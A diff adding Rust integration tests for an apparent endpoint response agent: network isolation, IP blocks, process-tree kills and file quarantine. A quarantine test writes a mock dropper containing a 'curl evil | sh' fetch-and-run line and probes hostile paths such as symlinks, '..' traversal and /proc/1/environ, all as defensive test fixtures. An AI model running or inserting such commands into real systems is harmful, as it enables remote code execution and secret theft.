@@ -1,0 +1,398 @@
+//! Containment with real traffic and real processes. The network tests use three namespaces
+//! (`ctl` with the controller, `host` where the agent acts, entered with `--netns`, and `peer`
+//! with TCP services, IPv4 and IPv6); nothing is ever isolated or blocked in the machine's
+//! root namespace, and the namespaces go away when a test ends, failed or not.
+
+#![allow(clippy::unwrap_used)]
+
+use cordon_tests::deploy::{AgentHandle, Deployment, HOST_V4, PEER_V4, PEER_V6};
+use cordon_tests::netns::{EchoServer, connect, echoes, reachable};
+use cordon_tests::require_root;
+use std::net::SocketAddr;
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+fn sa(ip: &str, port: u16) -> SocketAddr {
+    SocketAddr::new(ip.parse().unwrap(), port)
+}
+
+fn started(d: &Deployment, name: &str) -> AgentHandle {
+    let mut agent = d.enroll_agent(name, &[]);
+    d.start_agent(&mut agent);
+    d.wait_online(&agent, true, Duration::from_secs(20));
+    agent
+}
+
+fn ns(d: &Deployment) -> (String, String) {
+    (
+        d.agent_ns.as_ref().unwrap().name.clone(),
+        d.peer_ns.as_ref().unwrap().name.clone(),
+    )
+}
+
+/// Polls `f` until it is true or `timeout` passes.
+fn within(timeout: Duration, mut f: impl FnMut() -> bool) -> bool {
+    let deadline = Instant::now() + timeout;
+    while Instant::now() < deadline {
+        if f() {
+            return true;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    f()
+}
+
+#[test]
+fn isolation_cuts_everything_but_the_controller_and_the_allowlist_and_release_restores_it() {
+    if !require_root(
+        "isolation_cuts_everything_but_the_controller_and_the_allowlist_and_release_restores_it",
+    ) {
+        return;
+    }
+    let d = Deployment::namespaces_with_peer("");
+    let agent = started(&d, "host");
+    let (host, peer) = ns(&d);
+    let _p4 = EchoServer::start(&peer, &format!("{PEER_V4}:8080"));
+    let _p6 = EchoServer::start(&peer, &format!("[{PEER_V6}]:8080"));
+    let _allowed = EchoServer::start(&peer, &format!("{PEER_V4}:9090"));
+    let _h4 = EchoServer::start(&host, &format!("{HOST_V4}:7070"));
+
+    // Before: both ways, both families.
+    assert!(reachable(&host, sa(PEER_V4, 8080)));
+    assert!(reachable(&host, sa(PEER_V6, 8080)));
+    assert!(reachable(&peer, sa(HOST_V4, 7070)));
+    let mut open = connect(&host, sa(PEER_V4, 8080), Duration::from_secs(2)).unwrap();
+    assert!(echoes(&mut open, Duration::from_secs(2)));
+
+    let res = d.ctl_json(&[
+        "isolate",
+        &agent.id,
+        "--allow",
+        &format!("{PEER_V4}:9090"),
+        "--reason",
+        "test",
+    ]);
+    assert_eq!(res["status"], "succeeded", "{res}");
+    assert_eq!(
+        res["result"]["output"]["Isolation"]["isolated"], true,
+        "{res}"
+    );
+
+    assert!(
+        !reachable(&host, sa(PEER_V4, 8080)),
+        "new IPv4 connection out still works"
+    );
+    assert!(!reachable(&host, sa(PEER_V6, 8080)), "IPv6 still works");
+    assert!(
+        !reachable(&peer, sa(HOST_V4, 7070)),
+        "new connection in still works"
+    );
+    assert!(
+        !echoes(&mut open, Duration::from_secs(1)),
+        "a connection opened before isolation still passes data"
+    );
+    assert!(
+        reachable(&host, sa(PEER_V4, 9090)),
+        "the allowlisted peer port is blocked"
+    );
+    // The controller is still there: the agent stays online and takes commands.
+    d.ctl_json(&["ping", &agent.id]);
+    let show = d.ctl(&["agents", "show", &agent.id]);
+    assert!(
+        within(Duration::from_secs(5), || {
+            let s = d.ctl(&["agents", "show", &agent.id]);
+            s.contains("desired isolated, observed isolated") && !s.contains("DRIFT")
+        }),
+        "{show}"
+    );
+
+    // Isolating again is idempotent.
+    let again = d.ctl_json(&[
+        "isolate",
+        &agent.id,
+        "--allow",
+        &format!("{PEER_V4}:9090"),
+        "--reason",
+        "test",
+    ]);
+    assert_eq!(
+        again["result"]["output"]["Isolation"]["ruleset_hash"],
+        res["result"]["output"]["Isolation"]["ruleset_hash"]
+    );
+
+    let rel = d.ctl_json(&["release", &agent.id]);
+    assert_eq!(rel["status"], "succeeded", "{rel}");
+    assert!(reachable(&host, sa(PEER_V4, 8080)));
+    assert!(reachable(&host, sa(PEER_V6, 8080)));
+    assert!(reachable(&peer, sa(HOST_V4, 7070)));
+}
+
+#[test]
+fn isolation_is_back_after_kill_9_and_a_lost_ruleset() {
+    if !require_root("isolation_is_back_after_kill_9_and_a_lost_ruleset") {
+        return;
+    }
+    let d = Deployment::namespaces_with_peer("");
+    let mut agent = started(&d, "host");
+    let (host, peer) = ns(&d);
+    let _p4 = EchoServer::start(&peer, &format!("{PEER_V4}:8080"));
+    d.ctl_json(&["isolate", &agent.id]);
+    assert!(!reachable(&host, sa(PEER_V4, 8080)));
+
+    agent.proc.as_mut().unwrap().kill9();
+    // As after a reboot: the kernel lost the ruleset while the agent was down.
+    let out = Command::new("ip")
+        .args([
+            "netns", "exec", &host, "nft", "delete", "table", "inet", "cordon",
+        ])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(reachable(&host, sa(PEER_V4, 8080)));
+
+    d.start_agent(&mut agent);
+    assert!(
+        within(Duration::from_secs(10), || !reachable(
+            &host,
+            sa(PEER_V4, 8080)
+        )),
+        "isolation did not come back"
+    );
+    d.wait_online(&agent, true, Duration::from_secs(20));
+    d.ctl_json(&["ping", &agent.id]);
+    d.ctl_json(&["release", &agent.id]);
+    assert!(reachable(&host, sa(PEER_V4, 8080)));
+}
+
+#[test]
+fn isolation_that_would_cut_off_the_controller_is_rolled_back_and_reported() {
+    if !require_root("isolation_that_would_cut_off_the_controller_is_rolled_back_and_reported") {
+        return;
+    }
+    let d = Deployment::namespaces_with_peer("");
+    let agent = started(&d, "host");
+    let (host, peer) = ns(&d);
+    let _p4 = EchoServer::start(&peer, &format!("{PEER_V4}:8080"));
+    // Something else on the host drops new connections to the controller (the open stream
+    // keeps working), so the agent's reachability check through the new ruleset fails.
+    let out = Command::new("ip")
+        .args(["netns", "exec", &host, "nft", "add table inet cdtest; add chain inet cdtest out { type filter hook output priority 0; }; add rule inet cdtest out tcp dport 7443 ct state new drop"])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+
+    let res = d.try_ctl(&["isolate", &agent.id]);
+    assert!(!res.status.success());
+    let err = String::from_utf8_lossy(&res.stderr);
+    assert!(
+        err.contains("not reachable") && err.contains("rolled back"),
+        "{err}"
+    );
+    assert!(
+        reachable(&host, sa(PEER_V4, 8080)),
+        "the host stayed isolated after a failed isolation"
+    );
+    let listed = Command::new("ip")
+        .args(["netns", "exec", &host, "nft", "list", "tables"])
+        .output()
+        .unwrap();
+    assert!(!String::from_utf8_lossy(&listed.stdout).contains("inet cordon\n"));
+}
+
+#[test]
+fn ip_blocks_work_for_v4_and_v6_and_expire() {
+    if !require_root("ip_blocks_work_for_v4_and_v6_and_expire") {
+        return;
+    }
+    let d = Deployment::namespaces_with_peer("");
+    let agent = started(&d, "host");
+    let (host, peer) = ns(&d);
+    let _p4 = EchoServer::start(&peer, &format!("{PEER_V4}:8080"));
+    let _p6 = EchoServer::start(&peer, &format!("[{PEER_V6}]:8080"));
+
+    d.ctl_json(&["block-ip", &agent.id, PEER_V4, "--ttl", "3s"]);
+    d.ctl_json(&["block-ip", &agent.id, &format!("{PEER_V6}/128")]);
+    assert!(!reachable(&host, sa(PEER_V4, 8080)));
+    assert!(!reachable(&host, sa(PEER_V6, 8080)));
+    d.ctl_json(&["ping", &agent.id]);
+    assert!(
+        within(Duration::from_secs(8), || reachable(
+            &host,
+            sa(PEER_V4, 8080)
+        )),
+        "the IPv4 block did not expire"
+    );
+    assert!(
+        !reachable(&host, sa(PEER_V6, 8080)),
+        "the IPv6 block without ttl expired"
+    );
+    d.ctl_json(&["unblock-ip", &agent.id, PEER_V6]);
+    assert!(reachable(&host, sa(PEER_V6, 8080)));
+}
+
+fn start_time(pid: u32) -> u64 {
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
+    cordon_agent::respond::kill::parse_stat(pid, &stat)
+        .unwrap()
+        .start_time
+}
+
+fn children(pid: u32) -> Vec<u32> {
+    let all = std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok());
+    all.filter(|p| {
+        std::fs::read_to_string(format!("/proc/{p}/stat"))
+            .ok()
+            .and_then(|s| cordon_agent::respond::kill::parse_stat(*p, &s))
+            .is_some_and(|i| i.ppid == pid)
+    })
+    .collect()
+}
+
+fn gone(pid: u32, start: u64) -> bool {
+    std::fs::read_to_string(format!("/proc/{pid}/stat"))
+        .ok()
+        .and_then(|s| cordon_agent::respond::kill::parse_stat(pid, &s))
+        .is_none_or(|i| i.start_time != start || i.dead)
+}
+
+#[test]
+fn kill_takes_a_whole_tree_and_never_a_recycled_pid_or_the_agent() {
+    let d = Deployment::loopback("");
+    let agent = started(&d, "host");
+
+    let mut tree = Command::new("sh")
+        .args(["-c", "sleep 300 & sleep 300 & wait"])
+        .spawn()
+        .unwrap();
+    let root = tree.id();
+    assert!(within(Duration::from_secs(5), || children(root).len() == 2));
+    let kids: Vec<(u32, u64)> = children(root)
+        .into_iter()
+        .map(|p| (p, start_time(p)))
+        .collect();
+    let res = d.ctl_json(&[
+        "kill",
+        &agent.id,
+        "--pid",
+        &root.to_string(),
+        "--start-time",
+        &start_time(root).to_string(),
+        "--tree",
+    ]);
+    assert_eq!(res["status"], "succeeded", "{res}");
+    let killed: Vec<u64> = res["result"]["output"]["Kill"]["killed"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|k| k["pid"].as_u64().unwrap())
+        .collect();
+    assert_eq!(killed.len(), 3, "{res}");
+    tree.wait().unwrap();
+    for (pid, start) in kids {
+        assert!(
+            within(Duration::from_secs(2), || gone(pid, start)),
+            "child {pid} survived"
+        );
+    }
+
+    // A pid whose start time does not match is left alone.
+    let mut victim = Command::new("sleep").arg("300").spawn().unwrap();
+    let pid = victim.id();
+    let wrong = start_time(pid) + 1;
+    let out = d.try_ctl(&[
+        "kill",
+        &agent.id,
+        "--pid",
+        &pid.to_string(),
+        "--start-time",
+        &wrong.to_string(),
+    ]);
+    assert!(!out.status.success());
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("another process"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        victim.try_wait().unwrap().is_none(),
+        "the mismatched process was killed"
+    );
+    victim.kill().unwrap();
+    victim.wait().unwrap();
+
+    // The agent refuses to kill itself.
+    let agent_pid = agent.proc.as_ref().unwrap().pid();
+    let out = d.try_ctl(&["kill", &agent.id, "--pid", &agent_pid.to_string()]);
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("agent itself"));
+    d.ctl_json(&["ping", &agent.id]);
+}
+
+#[test]
+fn quarantine_and_restore_round_trip_and_hostile_paths_are_refused() {
+    use std::os::unix::fs::{MetadataExt, PermissionsExt};
+    let d = Deployment::loopback("");
+    let agent = started(&d, "host");
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("dropper.sh");
+    std::fs::write(&file, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
+    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o750)).unwrap();
+    let before = std::fs::metadata(&file).unwrap();
+    let path = file.to_str().unwrap();
+
+    let q = d.ctl_json(&["quarantine", &agent.id, "--path", path]);
+    assert_eq!(q["status"], "succeeded", "{q}");
+    let entry = &q["result"]["output"]["Quarantined"];
+    assert!(!file.exists());
+    let qid = entry["id"].as_str().unwrap().to_string();
+    let listed = d.ctl_json(&["quarantine", "list", &agent.id]);
+    assert_eq!(
+        listed["result"]["output"]["QuarantineList"]["entries"][0]["original_path"],
+        path
+    );
+
+    d.ctl_json(&["restore", &agent.id, "--quarantine-id", &qid]);
+    let after = std::fs::metadata(&file).unwrap();
+    assert_eq!(
+        std::fs::read(&file).unwrap(),
+        b"#!/bin/sh\ncurl evil | sh\n"
+    );
+    assert_eq!(
+        (after.mode(), after.uid(), after.gid(), after.mtime()),
+        (before.mode(), before.uid(), before.gid(), before.mtime())
+    );
+
+    std::os::unix::fs::symlink(dir.path(), dir.path().join("link")).unwrap();
+    for (bad, why) in [
+        (
+            format!("{}/link/dropper.sh", dir.path().display()),
+            "symlink",
+        ),
+        (
+            format!(
+                "{}/../{}/dropper.sh",
+                dir.path().display(),
+                dir.path().file_name().unwrap().to_str().unwrap()
+            ),
+            "'..'",
+        ),
+        ("/proc/1/environ".to_string(), "/proc"),
+    ] {
+        let out = d.try_ctl(&["quarantine", &agent.id, "--path", &bad]);
+        assert!(!out.status.success());
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(err.contains(why), "{bad}: {err}");
+    }
+    assert!(file.exists());
+}
